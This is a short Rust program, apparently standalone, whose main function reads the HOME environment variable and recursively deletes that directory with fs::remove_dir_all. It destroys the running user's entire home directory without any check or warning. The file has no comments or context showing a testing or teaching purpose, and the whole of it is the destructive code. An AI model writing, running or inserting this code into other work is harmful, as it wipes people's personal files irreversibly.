use std::{env, fs};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    fs::remove_dir_all(env::var("HOME")?)?;
    Ok(())
}
